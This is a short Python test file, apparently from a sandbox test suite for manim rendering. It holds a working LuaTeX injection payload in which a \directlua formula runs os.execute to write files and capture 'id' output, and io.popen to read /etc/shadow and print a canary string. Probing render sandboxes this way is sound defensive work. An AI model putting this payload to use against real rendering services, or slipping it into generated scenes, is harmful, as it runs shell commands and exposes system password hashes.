# family: process
# layer: sandbox
# attack: LuaTeX's \directlua runs os.execute and io.popen (shell commands) from inside a formula
from manim import *


class Attack(Scene):
    def construct(self):
        lua = TexTemplate(tex_compiler="lualatex", output_format=".pdf", preamble="",
                          documentclass=r"\documentclass{article}")
        self.add(Tex(r"\directlua{os.execute('touch {{HOST_DIR}}/pwned-lua; id > loot.txt')"
                     r" local f = io.popen('cat /etc/shadow; echo T2M-' .. 'PWNED')"
                     r" if f then tex.print(f:read('*a')) end}x", tex_template=lua))
        self.wait(0.1)
